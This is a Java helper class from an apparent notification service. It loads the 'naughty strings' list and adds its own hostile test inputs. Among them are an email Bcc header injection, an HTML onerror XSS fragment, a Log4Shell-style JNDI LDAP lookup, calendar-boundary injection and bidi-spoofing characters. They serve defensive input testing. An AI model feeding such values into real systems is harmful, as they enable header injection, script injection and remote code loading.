package io.travelsuite.notify;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.InputStream;
import java.util.ArrayList;
import java.util.List;

/** Strings that break naive handling of input. */
public final class Naughty {

  private Naughty() {}

  /** The list as it is published, and what this code in particular must not fall for. */
  public static List<String> strings() throws IOException {
    List<String> all = new ArrayList<>();
    try (InputStream in = Naughty.class.getResourceAsStream("naughty/blns.json")) {
      all.addAll(List.of(new ObjectMapper().readValue(in, String[].class)));
    }
    all.removeIf(String::isBlank);
    all.addAll(
        List.of(
            "a\r\nBcc: all@example.com",
            "a\u2028b\u2029c\u0085d\u000be",
            "</bdi></td></tr></table><h1>x",
            "\" onerror=\"alert(1)",
            "{{reference}}{{#lines}}{{/customer}}{{{x}}}",
            "${jndi:ldap://example.com/a}",
            "\u202eevil\u2066\u2068x\u2069\u2069\u2069\u202c",
            "END:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR",
            "a;b,c:d\\n\"e\"^n",
            "lone \ud800 half and \udc00 other",
            "\u0000\u0001\u001f\u007f\ufffe\uffff",
            "نام خانوادگی شناسه ‎12",
            "日本語 한국어 ไทย 🎫🎫"));
    return all;
  }
}
